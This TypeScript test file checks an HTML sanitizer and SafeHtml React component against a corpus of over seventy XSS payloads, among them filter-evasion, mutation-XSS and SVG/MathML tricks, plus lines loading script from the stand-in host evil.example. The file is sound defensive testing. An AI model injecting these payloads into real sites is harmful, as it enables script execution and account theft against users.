import { render } from '@testing-library/react';
import { loadSanitizer, SafeHtml } from './safe-html';
import { sanitizeHtml } from './sanitize';

/**
 * The XSS corpus every server HTML goes through (the OWASP filter-evasion list, mutation XSS, SVG/MathML
 * namespace confusion, protocol tricks). After SafeHtml no element may carry an event handler, a script,
 * a frame, a form or a link/source with an executable protocol.
 */
const PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/xss src=//evil.example/x.js></script>',
  '<<script>window.__pwned=1;//<</script>',
  '<img src=x onerror=window.__pwned=1>',
  '<IMG SRC="javascript:window.__pwned=1">',
  '<IMG SRC=JaVaScRiPt:window.__pwned=1>',
  '<IMG SRC=`javascript:window.__pwned=1`>',
  '<IMG """><SCRIPT>window.__pwned=1</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>',
  '<IMG SRC="jav\tascript:window.__pwned=1;">',
  '<IMG SRC="jav&#x0A;ascript:window.__pwned=1;">',
  '<IMG SRC=" &#14;  javascript:window.__pwned=1;">',
  '<img src="x" onerror="&#x77;indow.__pwned=1">',
  '<svg onload=window.__pwned=1>',
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__pwned=1"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:window.__pwned=1"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:window.__pwned=1">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__pwned=1 src>">',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
  '<body onload=window.__pwned=1>',
  '<BODY BACKGROUND="javascript:window.__pwned=1">',
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data="javascript:window.__pwned=1"></object>',
  '<embed src="data:text/html,<script>window.__pwned=1</script>">',
  '<a href="javascript:window.__pwned=1">click</a>',
  '<a href="JAVASCRIPT:window.__pwned=1">click</a>',
  '<a href=" javascript:window.__pwned=1">click</a>',
  '<a href="java&#09;script:window.__pwned=1">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">click</a>',
  '<a href="#" onclick="window.__pwned=1">click</a>',
  '<a href="#" onmouseover="window.__pwned=1">hover</a>',
  '<div style="background:url(javascript:window.__pwned=1)">x</div>',
  '<div style="width: expression(window.__pwned=1);">x</div>',
  '<style>@import "javascript:window.__pwned=1";</style>',
  '<link rel="stylesheet" href="javascript:window.__pwned=1">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
  '<base href="javascript:window.__pwned=1//">',
  '<form action="javascript:window.__pwned=1"><input type="submit"></form>',
  '<button formaction="javascript:window.__pwned=1">x</button>',
  '<input onfocus=window.__pwned=1 autofocus>',
  '<select onfocus=window.__pwned=1 autofocus>',
  '<textarea onfocus=window.__pwned=1 autofocus>',
  '<keygen onfocus=window.__pwned=1 autofocus>',
  '<video><source onerror="window.__pwned=1"></video>',
  '<audio src=x onerror=window.__pwned=1>',
  '<details open ontoggle=window.__pwned=1>',
  '<marquee onstart=window.__pwned=1>x</marquee>',
  '<isindex action=javascript:window.__pwned=1 type=image>',
  '<table background="javascript:window.__pwned=1">',
  '<td background="javascript:window.__pwned=1">',
  '<div onpointerover="window.__pwned=1">x</div>',
  '<p id="x" tabindex=1 onfocusin=window.__pwned=1>x</p>',
  '"><script>window.__pwned=1</script>',
  "'><img src=x onerror=window.__pwned=1>",
  '</title><script>window.__pwned=1</script>',
  '</textarea><script>window.__pwned=1</script>',
  '<!--<img src="--><img src=x onerror=window.__pwned=1//">',
  '<![CDATA[<img src=x onerror=window.__pwned=1>]]>',
  '<x contenteditable onblur=window.__pwned=1>x',
  '<template><img src=x onerror=window.__pwned=1></template>',
  '<img src=x:x onerror&#x3d;window.__pwned=1>',
  '<img srcset="x 1x" onerror="window.__pwned=1">',
  '<img/src="x"/onerror="window.__pwned=1">',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=window.__pwned=1 /></svg>#x"></use></svg>',
  '<a id=x href="https://example.com" target="_self" rel="opener">opener</a>',
];

/**
 * Attributes that take a URL; none may carry an executable protocol after sanitising. Inline `style` is
 * kept (gateway content colours its text); CSS cannot run script in the browsers the site supports, so
 * `url(javascript:…)` and `expression()` in a style are inert there and are not counted.
 */
const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'background', 'srcset', 'data', 'poster'];
const EXECUTABLE = /^\s*(javascript|vbscript|data:text\/html)/i;

function problems(html: string): string[] {
  const host = document.createElement('div');
  host.innerHTML = html;
  const found: string[] = [];
  for (const el of Array.from(host.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'form', 'style', 'meta', 'base', 'link', 'frame', 'frameset'].includes(tag)) found.push(`<${tag}>`);
    for (const attr of Array.from(el.attributes)) {
      if (/^on/i.test(attr.name)) found.push(`${tag}[${attr.name}]`);
      if (URL_ATTRS.includes(attr.name.toLowerCase()) && EXECUTABLE.test(attr.value)) found.push(`${tag}[${attr.name}=${attr.value}]`);
      if (attr.name === 'srcdoc') found.push(`${tag}[srcdoc]`);
    }
    if (tag === 'a' && el.getAttribute('href') && el.getAttribute('rel') !== 'noopener noreferrer') found.push('a without noopener');
  }
  return found;
}

describe('security: xss — SafeHtml payload corpus', () => {
  beforeAll(() => loadSanitizer());
  afterEach(() => {
    delete (window as unknown as { __pwned?: unknown }).__pwned;
  });

  it(`has a corpus of ${PAYLOADS.length} payloads`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(70);
    expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length);
  });

  it.each(PAYLOADS.map((p) => [p]))('%s', (payload) => {
    const clean = sanitizeHtml(payload);
    expect(problems(clean)).toEqual([]);
    // Sanitising is stable: a second pass finds nothing more to remove (no mutation on re-parse).
    expect(problems(sanitizeHtml(clean))).toEqual([]);
    const { container, unmount } = render(<SafeHtml html={payload} />);
    expect(problems(container.innerHTML)).toEqual([]);
    for (const el of Array.from(container.querySelectorAll('*'))) (el as HTMLElement).dispatchEvent?.(new Event('error'));
    expect((window as unknown as { __pwned?: unknown }).__pwned).toBeUndefined();
    unmount();
  });

  it('keeps the harmless part of a payload readable', () => {
    expect(sanitizeHtml('<b>Big win</b><script>window.__pwned=1</script> today')).toBe('<b>Big win</b> today');
    expect(sanitizeHtml('<p>50% bonus<img src=x onerror=window.__pwned=1></p>')).toBe('<p>50% bonus<img src="x"></p>');
  });
});
